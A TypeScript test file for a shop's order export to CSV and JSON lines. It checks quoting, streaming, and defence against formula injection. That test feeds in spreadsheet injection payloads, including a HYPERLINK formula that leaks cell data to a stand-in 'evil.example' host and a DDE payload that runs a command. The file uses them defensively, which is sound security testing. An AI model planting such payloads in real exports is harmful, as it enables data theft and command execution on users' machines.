import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import type { ShopOrder } from "../rules/commands.ts";
import { ordersAsCsv, ordersAsJsonLines } from "./export.ts";

const order = (number: number, change: Partial<ShopOrder> = {}): ShopOrder => ({
  ...{ id: `order${number}`, number, visitor: "f".repeat(32), customer: "ada", room: "main", lane: "vip" },
  ...{ at: Date.UTC(2026, 5, 1, 10), total: 13_000, currency: "EUR", attempt: "attempt_1" },
  tickets: [
    {
      id: `order${number}-1`,
      product: "evening",
      secret: "aa".repeat(16),
      lines: [
        { product: "evening", units: 1, price: 9_500 },
        { product: "parking", units: 2, price: 3_000 },
      ],
      state: "sold",
    },
    {
      id: `order${number}-2`,
      product: "programme",
      secret: "bb".repeat(16),
      lines: [{ product: "programme", units: 1, price: 500 }],
      state: "refunded",
    },
  ],
  ...change,
});

async function textOf(parts: AsyncIterable<string>): Promise<string> {
  let text = "";
  for await (const part of parts) text += part;
  return text;
}

/** A reader of RFC 4180, character by character as the grammar there has it. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let at = 0;
  while (at < text.length) {
    const cells: string[] = [];
    for (;;) {
      let cell = "";
      if (text[at] === '"') {
        at++;
        while (text[at] !== '"' || text[at + 1] === '"') {
          assert.ok(at < text.length, "a quoted field ends");
          if (text[at] === '"') at++;
          cell += text[at++];
        }
        at++;
      } else while (!",\r\n".includes(text[at]!)) cell += text[at++];
      cells.push(cell);
      if (text[at] !== ",") break;
      at++;
    }
    assert.equal(text.slice(at, at + 2), "\r\n");
    at += 2;
    rows.push(cells);
  }
  return rows;
}

/** Rows as records by the names in the first row. */
async function records(orders: readonly ShopOrder[]): Promise<Record<string, string>[]> {
  const [names = [], ...rows] = readCsv(await textOf(ordersAsCsv(orders)));
  return rows.map((cells) => {
    assert.equal(cells.length, names.length);
    return Object.fromEntries(cells.map((cell, i) => [names[i]!, cell]));
  });
}

test("CSV has a row for each ticket, with everything of its order", async () => {
  const [first, second] = await records([order(1)]);
  assert.deepEqual(first, {
    ...{ order: "1", orderId: "order1", at: "2026-06-01T10:00:00.000Z", room: "main", lane: "vip" },
    ...{ customer: "ada", visitor: "f".repeat(32), attempt: "attempt_1" },
    ...{ orderTotal: "13000", currency: "EUR", ticket: "order1-1", product: "evening", price: "12500" },
    ...{ state: "sold", secret: "aa".repeat(16), contents: "1 × evening; 2 × parking" },
  });
  assert.deepEqual([second?.ticket, second?.price, second?.state], ["order1-2", "500", "refunded"]);
});

test("without orders there is the row of names alone, and no line of JSON", async () => {
  assert.match(await textOf(ordersAsCsv([])), /^order,orderId,at,.*,contents\r\n$/);
  assert.equal(await textOf(ordersAsJsonLines([])), "");
});

test("no text that others write is a formula, whatever it begins with", async () => {
  for (const customer of [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "=cmd|' /C calc'!A0",
  ]) {
    const [row] = await records([order(1, { customer })]);
    assert.equal(row?.customer, `'${customer}`);
  }
  for (const customer of ["ada", "a=1", "'=1", "", "1-2"]) {
    const [row] = await records([order(1, { customer })]);
    assert.equal(row?.customer, customer);
  }
});

test("a product's name cannot begin a formula in the contents either", async () => {
  const [ticket] = order(1).tickets;
  const lines = [{ product: "=1", units: 1, price: 1 }];
  const [row] = await records([order(1, { tickets: [{ ...ticket!, product: "=1", lines }] })]);
  assert.deepEqual([row?.product, row?.contents], ["'=1", "1 × =1"]);
});

test("quotes, commas, line ends and every other character come through", async () => {
  await fc.assert(
    fc.asyncProperty(
      fc.array(fc.string({ unit: "binary" }), { minLength: 1, maxLength: 5 }),
      async (customers) => {
        const rows = await records(customers.map((customer, i) => order(i + 1, { customer })));
        const shown = rows.filter(({ ticket }) => ticket!.endsWith("-1")).map(({ customer }) => customer);
        assert.deepEqual(
          shown.map((text) => text!.replace(/^'(?=[=+\-@\t\r\n＝＋－＠])/, "")),
          customers.map((text) => text.replace(/^'(?=[=+\-@\t\r\n＝＋－＠])/, "")),
        );
      },
    ),
  );
  const [row] = await records([order(1, { customer: 'a "b", c\r\nd' })]);
  assert.equal(row?.customer, 'a "b", c\r\nd');
});

test("JSON lines are the orders themselves, one in each line", async () => {
  const orders = [order(1, { customer: 'a\n"b"\u2028' }), order(2)];
  const text = await textOf(ordersAsJsonLines(orders));
  assert.deepEqual(
    text
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line)),
    orders,
  );
});

test("many orders come in parts, and are asked for as they are sent", async () => {
  let asked = 0;
  async function* orders() {
    for (asked = 1; asked <= 10_000; asked++) yield order(asked);
  }
  for (const make of [ordersAsCsv, ordersAsJsonLines]) {
    const parts = make(orders());
    const first = await parts.next();
    assert.ok(typeof first.value === "string" && first.value.length < 40_000);
    assert.ok(asked < 200, `${asked} were asked for`);
    let count = 1;
    let longest = 0;
    for await (const part of parts) {
      count++;
      longest = Math.max(longest, part.length);
    }
    assert.equal(asked, 10_001);
    assert.ok(count > 50 && longest < 40_000);
  }
});
